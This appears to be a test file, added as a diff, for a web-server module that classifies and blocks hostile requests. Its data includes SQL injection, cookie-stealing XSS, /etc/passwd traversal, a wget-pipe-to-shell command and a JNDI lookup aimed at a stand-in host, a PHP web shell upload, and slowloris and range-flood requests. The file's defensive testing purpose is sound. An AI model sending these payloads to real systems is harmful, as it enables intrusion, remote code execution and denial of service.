@@ -1,0 +1,139 @@
+"""The eight kinds of incident of the operators' guide, sent to a server with the shipped rules: each gets its category, and blocks its client
+at the limit."""
+import pytest
+
+LIMIT = 12
+CATEGORIES = ("unauthorized_access vuln_scan sql_injection path_traversal xss code_injection resource_exhaustion auth_failure malware_upload "
+              "info_leak bad_method bot_proxy bad_request").split()
+
+BROWSER = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0"}
+PROBES = ["/wp-login.php", "/phpmyadmin/", "/admin/config.php", "/xmlrpc.php", "/cgi-bin/test.cgi", "/manager/html", "/solr/admin/",
+          "/boaform/admin/formLogin", "/HNAP1", "/owa/auth/logon.aspx", "/actuator/health", "/struts2/index.action"]
+
+
+def send(client, method, path, headers=None, body=b""):
+    """One request. Its status, 0 when the server closed."""
+    return client.request(method, path, {**BROWSER, **(headers or {})}, body).status
+
+
+# Kind, category, and what is sent again and again: (method, path, headers, body) with {n} for a number.
+KINDS = [
+    ("unauthorised access", "unauthorized_access", [("GET", "/denied/report-{n}.html", None, b"")]),
+    ("vulnerability scan", "vuln_scan", [("GET", path, None, b"") for path in PROBES]),
+    ("SQL injection", "sql_injection", [
+        ("GET", "/page.html?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-", None, b""),
+        ("GET", "/page.html?id=1%27%20OR%20%271%27%3D%271", None, b"")]),
+    ("cross-site scripting", "xss", [("GET", "/page.html?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", None, b"")]),
+    ("path traversal", "path_traversal", [("GET", "/page.html?file=../../../../etc/passwd", None, b""),
+                                          ("GET", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", None, b"")]),
+    ("code injection", "code_injection", [("GET", "/page.html?cmd=;wget%20http://198.51.100.1/x.sh%20-O-|sh", None, b""),
+                                          ("GET", "/page.html", {"X-Api-Version": "${jndi:ldap://198.51.100.1/a}"}, b"")]),
+    ("brute force", "auth_failure", [("GET", "/private/page.html", {"Authorization": "Basic YWxpY2U6d3Jvbmc="}, b"")]),
+    ("malware upload", "malware_upload", [("PUT", "/uploads/shell.php", None, b"<?php system($_GET['c']); ?>"),
+                                          ("POST", "/c99.php?cmd=id", None, b"x=1")]),
+    ("illegal method", "bad_method", [("FOO", "/page.html", None, b""), ("TRACE", "/", None, b"")]),
+    ("proxies and bots", "bot_proxy", [("GET", "http://www.example.net/", {"Host": "www.example.net"}, b""),
+                                       ("CONNECT", "www.example.net:443", {"Host": "www.example.net:443"}, b"")]),
+]
+
+ANNOUNCED = r"AH01630|AH00128|AH00130|AH01617|AH00135|AH10244|AH00026|AH01276|AH01264|AH01265"
+
+
+class WithShippedRules:
+    extra = ""
+
+    @classmethod
+    def configure(cls, config):
+        config.load("reqtimeout")
+        config.log_level = "warn core:info http:info reqtimeout:info"
+        limits = "\n".join(f"ErrWatchLimit {category} {LIMIT}/10m" for category in CATEGORIES)
+        config.errwatch(f"""
+            Include ${{CONF}}/rules/*.conf
+            ErrWatchInspect all
+            TraceEnable Off
+            {limits}
+            {cls.extra}
+        """, rules="")
+
+
+@pytest.mark.all_mpms
+class TestKinds(WithShippedRules):
+    @pytest.mark.parametrize("kind, category, requests", KINDS, ids=[kind for kind, _, _ in KINDS])
+    def test_kind(self, server, client, log, kind, category, requests):
+        log.allow(text=ANNOUNCED)
+        log.expect_blocked(client)
+        before = server.status.category(category)
+        sent = 0
+        while not server.status.blocked(client.address):
+            method, path, headers, body = requests[sent % len(requests)]
+            send(client, method, path.format(n=sent), headers, body)
+            sent += 1
+            assert sent <= LIMIT + 1, f"{server.status.client(client.address)}"
+        assert send(client, "GET", "/page.html") == 403
+        assert server.status.category(category) >= before + 1
+        incident = server.status.incidents(client=client.address, kind="block")[0]
+        assert category in (incident["limit"], incident["category"])
+        assert incident["rule"] > 0 and incident["rule_name"]
+
+    # Brute force: eight wrong passwords are not an accident, however they are spread over connections and user names.
+    def test_brute_force_over_many_users(self, client, log):
+        log.expect("AH01618")
+        log.expect_blocked(client)
+        statuses = [client.log_in(user=f"user{i}").status for i in range(LIMIT + 4)]
+        assert 403 in statuses
+
+    # Leaked configuration is about the server: it is reported, and the page where it leaks is named.
+    def test_leaked_configuration(self, server, client, log):
+        log.allow(text=ANNOUNCED)
+        log.allow("EW0101")
+        log.expect("EW0104", text="info_leak", at_least=1)
+        before = server.status.category("info_leak")
+        for path in ("/.env", "/.git/config", "/backup.sql", "/wp-config.php.bak"):
+            send(client, "GET", path)
+        assert server.status.category("info_leak") > before
+        assert server.status.incidents(kind="server")
+
+    # A visitor who does nothing wrong, and what browsers ask for by themselves.
+    def test_ordinary_visitor(self, server, client, log):
+        log.allow("AH00128")
+        for _ in range(10):
+            for path in ("/", "/page.html", "/page.html?q=select+a+hat+from+the+union+shop", "/page.html?ref=newsletter&utm_source=mail"):
+                assert send(client, "GET", path) == 200
+            for path in ("/favicon.ico", "/robots.txt", "/apple-touch-icon.png", "/.well-known/security.txt"):
+                assert send(client, "GET", path) == 404
+        row = server.status.client(client.address)
+        assert row is None or not row["blocked"]
+
+
+class TestDenialOfService(WithShippedRules):
+    """Slow requests hold workers; the entry about them names the connection only."""
+
+    @classmethod
+    def configure(cls, config):
+        super().configure(config)
+        config.add("RequestReadTimeout header=1 body=1")
+
+    def test_slowloris(self, server, client, log):
+        log.expect("AH01382")
+        log.expect_blocked(client)
+        connections = [client.connect() for _ in range(LIMIT)]
+        try:
+            for connection in connections:
+                connection.send(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-a: ")
+            server.status.wait_blocked(client.address, 15)
+        finally:
+            for connection in connections:
+                connection.close()
+        assert client.get("/page.html").status == 403
+        assert server.status.category("resource_exhaustion") >= 1
+
+    # Many ranges of one page cost the server much and the client nothing.
+    def test_range_flood(self, server, client, log):
+        log.allow(text=ANNOUNCED)
+        log.expect_blocked(client)
+        ranges = {"Range": "bytes=" + ",".join(f"0-{n}" for n in range(200))}
+        for _ in range(LIMIT + 1):
+            if send(client, "GET", "/page.html", ranges) == 403:
+                break
+        assert client.get("/page.html").status == 403
+        assert server.status.category("resource_exhaustion") >= 1
